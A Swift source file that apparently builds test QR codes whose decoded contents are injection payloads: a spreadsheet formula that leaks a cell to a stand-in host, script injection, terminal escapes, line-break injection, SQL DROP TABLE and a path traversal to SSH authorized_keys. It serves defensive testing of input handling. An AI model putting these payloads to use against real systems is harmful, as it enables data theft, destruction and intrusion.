/// QR codes whose content means something to a spreadsheet, a browser, a terminal, a shell or a store.
package struct HostilePayload: Sendable {
  /// The picture's name without its ending.
  package let name: String
  /// What a reader gives; nil where that is left to it.
  package let text: String?
  private let side: Int
  /// The modules row by row, a bit each, dark ones set, in base64.
  private let modules: String

  private init(_ name: String, _ text: String?, _ side: Int, _ modules: String) {
    self.name = name
    self.text = text
    self.side = side
    self.modules = modules
  }

  /// Four pixels a module, in a quiet zone of four modules.
  package var png: [UInt8] {
    let bits = bits
    let rows = (0..<(side + 8) * 4).map { y in
      (0..<(side + 8) * 4).map { x -> UInt8 in
        let (row, column) = (y / 4 - 4, x / 4 - 4)
        let isInside = (0..<side).contains(row) && (0..<side).contains(column)
        return isInside && bits[row * side + column] ? 0 : 255
      }
    }
    return PNGFile(width: UInt32(rows.count), height: UInt32(rows.count), rows: rows).bytes
  }

  private var bits: [Bool] {
    modules.utf8.prefix { $0 != UInt8(ascii: "=") }.flatMap { letter -> [Bool] in
      let place = Self.alphabet.firstIndex(of: letter) ?? 0
      return (0..<6).map { place >> (5 - $0) & 1 == 1 }
    }
  }

  private static let alphabet = Array(
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/".utf8)

  package static let all = [
    HostilePayload(
      "formula", "=HYPERLINK(\"http://x.example/?q=\"&B2,\"see\")", 29,
      "/hqD/BMRUG6CCrt1HJXbrAOuwQ4RB/qqr+AGIwDHV1DEIkPN0IlBgNCXAaUtmDdOYI9qGmyjARI2TUIXUFyjS7Q+/VSTEJVwqzzN"
        + "+IBh1Gv69mpQUgEbugs/9dNvZW6ScvUFEiTf7I5QAA=="),
    HostilePayload(
      "html", "\"><script>alert('milk')</script>&", 29,
      "/i9z/BU9UG6DRrt11sXbpB0uwWwFB/qqr+AOVgD70HVWYXv8YcnQOQsaEqWutQLioI3F+2W31gJQ26LxUG6Ocdxh4doNYNkaunyt"
        + "+wBgBF/75etQSncYuvHP9dR36O6xzaUF2h2v7LxeAA=="),
    HostilePayload(
      "escape", "milk\u{1B}[2J\u{1B}]0;gone\u{7}", 21,
      "/gP8FNBukLt1pdugLsFdB/qv4AoA+9VV5BhpzpxgY+sz0YBhZ/v80EaeuuWF1bCuoxEF0U/s/wA="),
    HostilePayload(
      "lines", "first line\nremexp: second line\r\nthird", 29,
      "/ij7/BUaUG6CBLt104XbpA+uwWzlB/qqr+AOJQD70EVWbWX8U8nCGZsaYbF+ppceQF/lfuSIBCJ0AJtRwL4Pd7Tg8cBhOdhjuval"
        + "+gBAvH/7ZuoQQnEYurBPpdZ7Ae658PUF23yv7rVSAA=="),
    // A text that ends in the middle for C.
    HostilePayload(
      "nul", nil, 21,
      "/iv8FVBurLt0FduvrsFxB/qv4BAA0zuyxYfKrduzVJa1WQBKF/rn0EYxukwV1h3uk/MFu4/p7wA="),
    HostilePayload(
      "sql", "x'); DROP TABLE item;-- 100%_", 25,
      "/ik/wS/Qbqyrt0lF26Yy7BH5B/qq/gE+AO+M4mBgO//KC7Me+phqb9gtHD6su9Lar5qvZ/gAQMZ/qCrwWtELrm+10gyC6qLrBa6y"
        + "/u/vgA=="),
    HostilePayload(
      "path", "../../../../root/.ssh/authorized_keys", 29,
      "/u2j/BcVkG6s/rt1oGXboHiuwU9NB/qqr+AJLADOFkl8r1w8f6fbr9hpqQNi1UXcg/FHj4Um+QlKEsqX1F5HRxRJr+h+Y+rxLD7E"
        + "/YBTzEf5BGrwWWkRutZf1dFPIG6f9k8FKdU/6N2VAA=="),
    // Korean as a Mac takes it apart.
    HostilePayload(
      "nfd", "\u{110B}\u{116E}\u{110B}\u{1172}\u{110B}\u{116A} \u{1103}\u{116E}\u{1107}\u{116E}", 25,
      "/vq/wV7QbofLt0iF26p67BfNB/qq/gE4AOb5+eqA3SjbmF4R6cs37cooAEOtkuwQiabOf/+AbEZ/iuqQW9F7oo/F0Yk66x5XBR0s"
        + "/t5cgA=="),
    // Korean in the encoding of old labels, which the code does not name.
    HostilePayload(
      "euckr", nil, 21,
      "/vv8FVBuoLt15dugrsFpB/qv4A8AzlF77Pzmndcjw24w4oBn0/ilMFskuteV08fulIEFTk/o4oA="),
    // The second of three codes of a set.
    HostilePayload(
      "part", nil, 25,
      "/mK/wRtQbplLt0O126Ta7BeNB/qq/gBwAJas0Aizgp7qDI6/RaEwKishStotNqKg2EXSTv4AT8R/hypwXZF7pY+d1bZi6KULBCir"
        + "/oeagA=="),
  ]
}
